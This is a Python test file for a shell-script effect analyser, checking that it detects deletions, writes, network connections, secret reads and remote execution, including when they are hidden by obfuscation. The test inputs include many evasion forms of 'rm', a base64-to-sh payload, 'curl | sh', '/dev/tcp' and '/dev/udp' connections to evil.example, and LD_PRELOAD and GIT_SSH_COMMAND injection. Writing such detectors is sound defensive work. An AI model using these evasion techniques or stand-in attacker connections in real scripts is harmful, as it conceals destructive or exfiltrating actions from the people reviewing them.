"""Every construct that can hide a command or a file must show it."""

from fakeworld import run

from each_row import each_row

DELETE_V = [
    "rm v",
    "tr\\\nue; r\\\nm v",
    "r\\m v",
    "'r''m' v",
    '"r"m v',
    "$'\\x72m' v",
    "$'\\162m' v",
    "a=r; b=m; $a$b v",
    'x="rm v"; $x',
    'cmd=(rm -f); cmd+=(v); "${cmd[@]}"',
    'c=([0]=rm [1]=v); "${c[@]}"',
    'declare -A m=([k]=rm); "${m[k]}" v',
    "eval 'rm v'",
    'a=r; eval "${a}m v"',
    "eval eval rm v",
    "`echo rm` v",
    "$(echo rm) v",
    "$(printf 'r%s' m) v",
    "x=`echo \\`echo rm\\``; $x v",
    'echo "${x:-`rm v`}"',
    'echo "${x:-$(rm v)}"',
    ": ${x:=$(rm v)}",
    "coproc X { rm v; }",
    "coproc rm v",
    "{ rm v; }",
    "( rm v )",
    "rm v &",
    "! rm v",
    "time rm v",
    "if true; then rm v; fi",
    "if false; then :; elif true; then rm v; fi",
    "if rm v; then :; fi",
    "while rm v; do break; done",
    "until rm v; do :; done",
    "while :; do rm v; break; done",
    "for i in 1; do rm v; done",
    "for i in v; do rm $i; done",
    "for ((i=0;i<1;i++)); do rm v; done",
    "for f in $(echo v); do rm $f; done",
    "select i in a; do rm v; break; done",
    "case x in x) rm v;; esac",
    "case a in a) :;& b) rm v;; esac",
    "case x in (x) rm v;; esac",
    "f() { rm v; }; f",
    "function f { rm v; }; f",
    'f() { rm "$1"; }; f v',
    'run() { "$@"; }; run rm v',
    'run() { local a=("$@"); "${a[@]}"; }; run rm v',
    'run() { shift; "$@"; }; run x rm v',
    "f() { rm v; }",
    "trap 'rm v' EXIT",
    "trap 'rm v' INT TERM",
    "x=v; trap 'rm $x' EXIT; x=w",
    "f() { rm v; }; trap f EXIT",
    "shopt -s expand_aliases\nalias t='rm -f'\nt v",
    "sh -c 'rm v'",
    "bash -c 'rm $1' _ v",
    "sh <<'EOF'\nrm v\nEOF",
    "x=v\nsh <<EOF\nrm $x\nEOF",
    "sh <<-EOF\n\trm v\n\tEOF",
    "sh <<< 'rm v'",
    "echo 'rm v' | sh",
    "echo rm v | bash -s",
    "echo cm0gdgo= | base64 -d | sh",
    "cat <<'EOF' | sh\nrm v\nEOF",
    "source /dev/stdin <<< 'rm v'",
    "source <(echo 'rm v')",
    ". <(echo rm v)",
    "exec rm v",
    "command rm v",
    "builtin command rm v",
    "command -p rm v",
    "env X=1 rm v",
    "X=1 rm v",
    'set -- rm v; "$@"',
    "set -- v; rm $1",
    "set rm v; $1 $2",
    "x=rm; y=x; ${!y} v",
    "declare -n r=c; c=rm; $r v",
    "f() { local -n r=$1; r=rm; }; f c; $c v",
    "printf -v c '%s' rm; $c v",
    "read c <<< rm; $c v",
    "read -r a b <<< 'rm v'; $a $b",
    "IFS=: read -r a b <<< 'rm:v'; $a $b",
    "IFS=,; x=rm,v; $x",
    "echo rm | while read c; do $c v; done",
    "while read c; do $c v; done <<< rm",
    "while read c; do $c v; done < <(echo rm)",
    "mapfile -t l <<< rm; ${l[0]} v",
    "x=xrm; ${x#x} v",
    "x=rmx; ${x%x} v",
    "x=RM; ${x,,} v",
    "x=rm; ${x:0:2} v",
    "x=axb; ${x/axb/rm} v",
    "{rm,v}",
    "r{m,x} v",
    'echo "$(rm v)"',
    "echo $((1 + $(rm v)))",
    "[[ -n $(rm v) ]]",
    '[ -n "$(rm v)" ]',
    "(( x = $(rm v) ))",
    "let x=$(rm v)",
    "a[$(rm v)]=1",
    "cat <<EOF\n$(rm v)\nEOF",
    "cat <<EOF\n`rm v`\nEOF",
    "x=(a $(rm v))",
    "echo ${x[$(rm v)]}",
    "> $(rm v)",
    "local_() { local x=$(rm v); }; local_",
    "export X=$(rm v)",
    "readonly X=`rm v`",
    "true && rm v",
    "false || rm v",
    "true; rm v",
    "echo a | rm v",
    "rm v |& cat",
    "{ cat; } < <(rm v)",
    "cat <(rm v)",
    "echo x > >(rm v)",
    "x() (rm v); x",
    "if [ -f v ]\nthen\n rm v\nfi",
    "# comment\nrm v # more",
    "echo a#b; rm v",
    "echo $'a\\'b'; rm v",
    'echo "a\\"b"; rm v',
    "echo 'a\\'; rm v",
    "export -f f; f() { rm v; }; export -f f; bash -c f",
    "alias() { rm v; }; alias x",
    "cd() { rm v; }; cd x",
    "f() { f2; }; f2() { rm v; }; f",
    'f() { [ -n "$1" ] && f "${1%?}"; rm v; }; f abc',
    'cmd_go() { rm v; }; "cmd_$1"',
    'a=go; cmd_go() { rm v; }; "cmd_$a"',
    "x=rm\nif [ $y ]; then x=ls; fi\n$x v",
    "$(command -v rm) v",
    "case $1 in\n  --x=*) rm v ;;\nesac",
    "set -e; cd x; rm v",
    "getopts a: o; rm v",
    "wait; kill -0 1; umask 022; ulimit -n 10; rm v",
    'echo "$( ( rm v ) )"',
    "echo $(case a in a) rm v;; esac)",
    "echo $(# comment )\nrm v)",
    "function a-b() { rm v; }; a-b",
    "if ! { false; }; then rm v; fi",
    "exec 3>&1; rm v",
    "x=1; ((x++)) || rm v",
    "[[ a == b || a =~ ^(x|y)$ ]] && rm v",
    "[[ a < b ]] && rm v",
    "[[ (a == b) && ! -f x ]] || rm v",
    "rm <<<x v",
    "</dev/null rm v",
    ">/dev/null rm v 2>&1",
    "rm v\r",
    'stop() { exit 1; }; [ -n "$1" ] || stop\nrm v',
]


@each_row("code", DELETE_V)
def test_deletion_is_seen(code):
    world = run(code)
    seen = {scope for capability, scope in world.names() if capability == "file.delete"}
    assert any("v" in scope.split("|") for scope in seen) or any("v" in s and "\r" in s for s in seen), (
        seen,
        world.opaques,
        world.spawned,
    )


@each_row("code", [c for c in DELETE_V if "cmd_" not in c])
def test_known_code_is_not_opaque(code):
    world = run(code)
    expected = ("`export -f f; f()", "alias()", "cd()")
    assert not [o for o in world.opaques if "unknown command" not in o[0]] or code.startswith(expected), world.opaques


@each_row(
    ("code", "effect"),
    [
        ("> out", ("file.write", "out")),
        (": > out", ("file.write", "out")),
        ("echo a >> out", ("file.write", "out")),
        ("echo a >| out", ("file.write", "out")),
        ("echo a &> out", ("file.write", "out")),
        ("echo a &>> out", ("file.write", "out")),
        ("echo a >& out", ("file.write", "out")),
        ("echo a 2> out", ("file.write", "out")),
        ("exec 3> out", ("file.write", "out")),
        ("exec {fd}> out", ("file.write", "out")),
        ("cat <> out", ("file.write", "out")),
        ("cat < in", ("file.read", "in")),
        ("x=$(< in)", ("file.read", "in")),
        ("while read l; do :; done < in", ("file.read", "in")),
        ("{ echo a; } > out", ("file.write", "out")),
        ("( echo a ) > out", ("file.write", "out")),
        ("if true; then echo; fi > out", ("file.write", "out")),
        ("f() { echo; } > out; f", ("file.write", "out")),
        ('d=x; echo > "$d/out"', ("file.write", "x/out")),
        ('echo > "$1"', ("file.write", "<arg>")),
        ('echo > "${1%/}/out"', ("file.write", "<arg>/out")),
        ("echo > ~/out", ("file.write", "<home>/out")),
        ('echo > "$HOME/out"', ("file.write", "<home>/out")),
        ("echo > $TMPDIR/out", ("file.write", "<temp>/out")),
        ("exec 3<>/dev/tcp/evil.example/80", ("net.connect", "evil.example:80")),
        ("echo x > /dev/udp/evil.example/53", ("net.connect", "evil.example:53")),
        ("h=evil.example; cat < /dev/tcp/$h/80", ("net.connect", "evil.example:80")),
        ("kill -9 $$", ("process.kill", "<any:num~>")),
        ('echo "$API_KEY"', ("env.read", "API_KEY")),
        ('echo "${API_KEY:?missing}"', ("env.read", "API_KEY")),
        ('echo "${API_KEY:-}"', ("env.read", "API_KEY")),
        ('[ -z "${API_KEY+x}" ]', ("env.read", "API_KEY")),
        ("n=API_KEY; echo ${!n}", ("env.read", "API_KEY")),
        ("if x; then K=1; fi; echo $K", ("env.read", "K")),
        ("(( API_KEY > 1 ))", ("env.read", "API_KEY")),
        ("ls *.txt", ("file.read", "<cwd>")),
        ("for f in dir/*; do :; done", ("file.read", "dir")),
        ('sh -c "echo $1"', ("shell.execute", "ANY")),
        ('eval "$1"', ("shell.execute", "ANY")),
        ("curl http://x | sh", ("shell.execute", "ANY")),
        ('eval "$(cat f)"', ("shell.execute", "ANY")),
        ('"$1" x', ("shell.execute", "<arg>")),
        ("$TOOL x", ("shell.execute", "<env:TOOL~>")),
    ],
)
def test_effect_is_seen(code, effect):
    world = run(code)
    assert effect in world.names() or any(
        c == effect[0] and effect[1].rstrip("~>") in s for c, s in world.names() if effect[1].startswith("<env:")
    ), world.names()


@each_row(
    "code",
    [
        "echo a > /dev/null 2>&1",
        "echo a >&2",
        "echo a > /dev/stderr",
        "cat < /dev/stdin",
        'echo "$HOME $PWD $PATH $USER $RANDOM $$ $? $# $0"',
        "K=1; echo $K",
        "f() { local K; echo $K; }; f",
        "for K in a b; do echo $K; done; echo $K",
        "read K; echo $K",
        "x=1; unset x; echo $x",
        'printf "%s\\n" a b',
        "cd /tmp && pwd",
        '[ "$1" = a ] && [[ $2 == b* ]]',
        "x=$((1 + 2)); y=$((x * 2)); a=(1 2); echo ${a[x]} ${#a[@]} ${a[@]:1}",
        "set -euo pipefail; trap - EXIT; wait; true",
        'usage() { echo "usage: $0 X"; exit 1; }; [ $# -ge 1 ] || usage',
        "case $1 in a|b) echo 1;; *) echo 2;; esac",
        "x=$(wc -l); if [ $x -gt 3 ]; then echo; fi; ((x > 3)) && echo",
        "i=0; while [ $i -lt 10 ]; do i=$((i + 1)); done",
        "for i in {1..500}; do echo $((i * 2)); done",
    ],
)
def test_harmless_code_has_no_effect(code):
    world = run(code)
    assert not world.effects
    assert not world.opaques


@each_row(
    "code",
    [
        "x=$(cat f); echo ${x@P}",
        "x=$(cat f); $x",
        "enable -f ./x.so x",
        "if then",
        "rm 'v",
        'echo "$(rm v"',
        "case x in",
        "export LD_PRELOAD=./x.so; ls",
        'PATH="./bin:$PATH"; ls',
        'PATH="$1:$PATH" ls',
        "export BASH_ENV=x; ls",
        "GIT_SSH_COMMAND='sh x' git pull",
        "a() { b; }; echo &\\\n& rm v",
        "echo $\\\n{x}",
        "mapfile -C f x",
        "history -w",
    ],
)
def test_code_positions_are_opaque(code):
    assert run(code).opaques


@each_row(
    "code",
    [
        "x=$(cat f); (( x > 1 ))",
        "x=$(cat f); echo $((x))",
        "x=$(cat f); echo ${a[x]}",
        "x=$(cat f); [[ $x -eq 1 ]]",
        "x=$(cat f); echo ${!x}",
        "x=$(cat f); printf -v $x a",
        'x=$(cat f); read "$x"',
        'x=$(cat f); unset "$x"',
        'x=$(cat f); test -v "$x"',
        "x=$(cat f); [[ -v $x ]]",
        'x=$(cat f); declare "$x=1"',
        "x=$(cat f); let $x",
        "x=$(cat f); echo ${y:x}",
        'export "$(cat f)"; ls',
    ],
)
def test_text_from_outside_in_code_positions_may_be_a_command(code):
    assert ("shell.execute", "ANY") in run(code).names()
    hidden = run(code.replace("cat f", "env"))
    assert hidden.opaques


@each_row(
    "code",
    [
        "x='a[$(rm v)]'; echo $((x))",
        "x='a[$(rm v)]'; [[ $x -eq 1 ]]",
        "x='a[`rm v`]'; (( x ))",
        "test -v 'a[$(rm v)]'",
        "[[ -v 'a[$(rm v)]' ]]",
        "printf -v 'a[$(rm v)]' x",
        "read 'a[$(rm v)]' <<< x",
        "unset 'a[$(rm v)]'",
        "let 'a[$(rm v)]=1'",
        "x='a[$(rm v)]'; y=x; echo $((y))",
        "x='a[$(rm v)]'; echo ${!x}",
        "x='a[$(rm v)]'; echo ${z:x}",
        "x='$(rm v)'; echo ${x@P}",
        "declare -i n; n='a[$(rm v)]'",
        "x='b[$(rm v)]'; declare -a a; a[x]=1",
    ],
)
def test_substitutions_in_code_positions_are_run(code):
    assert ("file.delete", "v") in run(code).names()


@each_row(
    "code",
    ["(( $1 > 1 ))", "[[ $1 -eq 1 ]]", "echo $(( $N + 1 ))", 'a=(1 2); echo "${a[$1]}"', "x=${!1}", 'printf -v "$1" a'],
)
def test_arguments_in_code_positions_are_assumed(code):
    world = run(code)
    assert "arithmetic-arguments" in world.assumed
    assert not world.opaques


@each_row(
    "code",
    [
        'PATH="$PATH:/x"; ls',
        'export PATH="/usr/local/bin:$PATH"; ls',
        'export PATH="$HOME/.local/bin:$PATH"; ls',
        "PATH=/usr/bin:/bin ls",
        "export PAGER=cat; git log",
        "export NODE_OPTIONS=--max-old-space-size=4096; ls",
        "PYTHONUNBUFFERED=1 ls",
    ],
)
def test_known_settings_do_not_steer(code):
    assert not run(code).opaques


def test_path_finds_a_program_of_the_skill():
    world = run('export PATH="$(dirname "$0")/bin:$PATH"\nls x', {"scripts/bin/ls": "rm v"})
    assert any(line.startswith("<skill>/scripts/bin/ls") for line in world.spawned)


def test_source_shares_functions_and_variables():
    world = run(
        '. "$(cd "$(dirname "$0")" && pwd)/common"\ntidy $target', {"scripts/common": "tidy() { rm $1; }\ntarget=v"}
    )
    assert ("file.delete", "v") in world.names()
    assert not world.opaques


def test_commands_from_a_file_of_the_skill():
    world = run('while read -r op arg; do $op "$arg"; done < "$(dirname "$0")/plan"', {"scripts/plan": "rm v\n"})
    assert ("file.delete", "v") in world.names()


def test_sourcing_another_file_is_opaque():
    assert run(". ./other").opaques
    assert ("source.execute", "<arg>") in run('. "$1"').names()


def test_cd_is_ordered_and_may_fail():
    def folders(code):
        return {cwd for capability, _, _, cwd in run(code).effects if capability == "file.delete"}

    assert folders("cd a; rm v") == {"<cwd>|<cwd>/a"}
    assert folders("cd a && rm v") == {"<cwd>/a"}
    assert folders("cd a || exit 1; rm v") == {"<cwd>/a"}
    assert folders("set -e; cd a; rm v") == {"<cwd>/a"}
    assert folders("(cd a && rm w) && rm v") == {"<cwd>/a", "<cwd>"}
    assert folders("cd /a/b/.. && rm v") == {"/a"}
    assert folders('cd "$1" && rm v') == {"<arg>"}
    assert folders('cd "$(dirname "$0")"; rm v') == {"<skill>/scripts"}
    assert folders("pushd /a >/dev/null || exit; popd || exit; rm v") == {"<cwd>"}


def test_text_after_exit_is_not_read():
    assert not run("echo a\nexit 0\nif (((\n\x00garbage").opaques
    assert run("echo a\nif (((\n").opaques


def test_commands_before_an_error_run():
    world = run("rm v\nif then\n")
    assert ("file.delete", "v") in world.names()
    assert world.opaques


def test_placeholders_are_words():
    from remit.analysis.domain import MODEL, Hole

    world = run("rm \U000f0000 && cat x", placeholders={"\U000f0000": Hole(MODEL)})
    assert ("file.delete", "<model>") in world.names()
    assert ("shell.execute", "ANY") not in world.names()


def test_holes_in_code():
    from remit.analysis.domain import Hole, Text

    world = run(frozenset({Text(("rm ", Hole("arg", "quoted")))}), own=False)
    assert ("shell.execute", "ANY") not in world.names()
    assert any(c == "file.delete" for c, _ in world.names())
    world = run(frozenset({Text(("rm ", Hole("arg"), "; rm v"))}), own=False)
    assert ("shell.execute", "ANY") in world.names()
    assert ("file.delete", "v") in world.names()


def test_unquoted_text_of_the_caller_is_one_word_or_none():
    assert run("rm $1").spawned == ["rm <arg>", "rm"]
    assert run('rm "$1"').spawned == ["rm <arg>"]
    assert run("rm -f $1 x").spawned == ["rm -f <arg> x", "rm -f x"]
    assert run("rm -f a$1").spawned == ["rm -f a<arg>", "rm -f a"]
    assert "one-word-arguments" in run("rm $1").assumed


def test_other_unquoted_holes_may_be_several_words():
    assert "rm [<file~>]" in run("read -r x < a; rm $x").spawned
    assert "rm [*|<file:seg~>]" in run("rm *").spawned


def test_a_nul_ends_a_name_and_joins_nothing():
    each = "while IFS= read -r -d '' f; do rm \"$f\"; done"
    for printed in ("printf 'a\\0b\\0'", "printf '%s\\0' a b", "echo -ne 'a\\0b\\0'"):
        assert set(run(f"{printed} | {each}").spawned) == {"rm a|b"}, printed
        listed = run(f"mapfile -d '' -t l < <({printed}); rm \"${{l[@]}}\"").spawned
        assert any("a" in words and "b" in words for words in listed), printed
    assert run("rm \"$(printf 'a\\0b')\"").spawned == ["rm ab"]
    assert run("printf -v x 'a\\0b'; rm $x").spawned == ["rm a"]
    assert "rm ab" in run("printf 'a\\0b' | { read -r x; rm $x; }").spawned


def test_alternatives_stay_lists():
    spawned = run("x=; if a; then x=-f; fi; rm $x v").spawned
    assert "rm v" in spawned
    assert "rm -f v" in spawned


def test_budget_is_steps():
    assert any("too many steps" in reason for reason, _ in run("rm v\n" * 50, steps=20).opaques)


def test_other_shells_are_opaque():
    assert run("rm v", dialect="fish").opaques


def test_output_of_functions_is_a_value():
    assert ("file.delete", "a/b") in run('f() { echo "a/$1"; }; rm "$(f b)"').names()
    assert ("file.delete", "v") in run('f() { echo v; echo w >&2; }; rm "$(f)"').names()


def test_loops_settle():
    world = run('x=a; while c; do x="$x/b"; rm "$x"; done')
    assert any(s.startswith("a/b") for c, s in world.names() if c == "file.delete")
    assert any("<mixed~>" in s for c, s in world.names() if c == "file.delete")


@each_row(
    "check",
    [
        "[[ $x =~ ^[0-9]+$ ]] || exit 1",
        "if ! [[ $x =~ ^[0-9]+$ ]]; then exit 1; fi",
        "if [[ ! $x =~ ^[0-9]+$ ]]; then exit 1; fi",
        '[ "$x" -gt 0 ] || exit',
        'test "$x" -ge 0 || exit',
        "[[ -n $x && $x =~ ^[0-9]+$ ]] || exit",
    ],
)
def test_checked_numbers_are_numbers(check):
    code = f"x=$(cat f); {check}; echo $((x + 1))"
    assert ("shell.execute", "ANY") not in run(code).names()
    loose = f"x=$(cat f); {check} || true; echo $((x + 1))".replace("exit 1", "true").replace("exit", "true")
    assert ("shell.execute", "ANY") in run(loose).names()


@each_row("check", ["[[ $x =~ ^[0-9]+ ]]", "[[ $x =~ ^[0-9]+$ || -n $y ]]", "[[ ! $x =~ ^[0-9]+$ ]]", '[ "$x" != 1 ]'])
def test_weak_checks_do_not_count(check):
    assert ("shell.execute", "ANY") in run(f"x=$(cat f); {check} || exit; echo $((x + 1))").names()


def test_a_failing_substitution_ends_under_errexit():
    def deleted(code):
        return {scope for capability, scope in run(code).names() if capability == "file.delete"}

    assert deleted('set -e; d=$(cd a && pwd); rm "$d/v"') == {"<cwd>/a/v"}
    assert deleted('d=$(cd a && pwd); rm "$d/v"') == {"/v|<cwd>/a/v"}
    assert deleted('set -e; f() { local d=$(cd a && pwd); rm "$d/v"; }; f') == {"/v|<cwd>/a/v"}
    assert deleted('d="$(cd "$(dirname "$0")/.." && pwd)"; rm "$d/v"') == {"<skill>/v"}


def test_substitutions_do_not_inherit_errexit():
    effects = {(c, cwd) for c, _, _, cwd in run("set -e; x=$(cd a; rm v)").effects}
    assert ("file.delete", "<cwd>|<cwd>/a") in effects
    effects = {(c, cwd) for c, _, _, cwd in run("set -e; (cd a; rm v)").effects}
    assert ("file.delete", "<cwd>/a") in effects


def test_traps_see_what_was_set_since():
    world = run("set -e; t=$(mktemp); trap 'rm -f \"$t\"' EXIT; cd x")
    assert not [c for c, _ in world.names() if c == "env.read"]
    world = run("trap 'rm \"${l[@]}\" $t' EXIT; l=(); l+=(a); t=b; unset t; l=()")
    deleted = "|".join(s for c, s in world.names() if c == "file.delete")
    assert "a" in deleted.split("|")
    assert "b" in deleted.split("|")
